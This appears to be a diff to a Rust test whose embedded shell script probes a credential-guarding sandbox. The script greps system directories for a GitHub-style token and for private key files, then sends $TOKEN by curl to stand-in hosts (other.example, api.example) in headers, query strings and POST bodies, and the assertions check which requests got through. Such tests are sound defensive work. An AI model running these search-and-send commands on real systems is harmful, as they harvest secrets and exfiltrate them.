@@ -73,7 +73,8 @@ grep -rs ghp_Zq7 /tmp /home /etc /.ringfence /dev/shm /run /var . > everywhere.t
 grep -rls 'PRIVATE KEY' /tmp /home /etc /.ringfence /dev/shm /run /var > keys.txt
 curl -sS -H "Authorization: Bearer $TOKEN" https://other.example/elsewhere; echo
 curl -sS "https://api.example/query?t=$TOKEN"; echo
-curl -sS -d "t=$TOKEN" https://api.example/body; echo
+curl -sS -d "t=$TOKEN" https://other.example/body; echo
+curl -sS -d "t=$TOKEN" https://api.example/said; echo
 curl -sS -H "X-Other: $TOKEN" https://api.example/header; echo
 curl -sS -H "Authorization: Bearer ghp_000000000000000000000000000000000000" https://api.example/own; echo
 true"#;
@@ -88,6 +89,7 @@ true"#;
         for path in ["/elsewhere", "/query", "/body", "/header"] {
             ensure!(!seen.contains(path), "{path} went out: {seen}");
         }
+        ensure!(seen.contains("POST /said"), "its own host is told: {seen}");
         ensure!(
             !seen.contains("ghp_0000"),
             "another credential went out: {seen}"
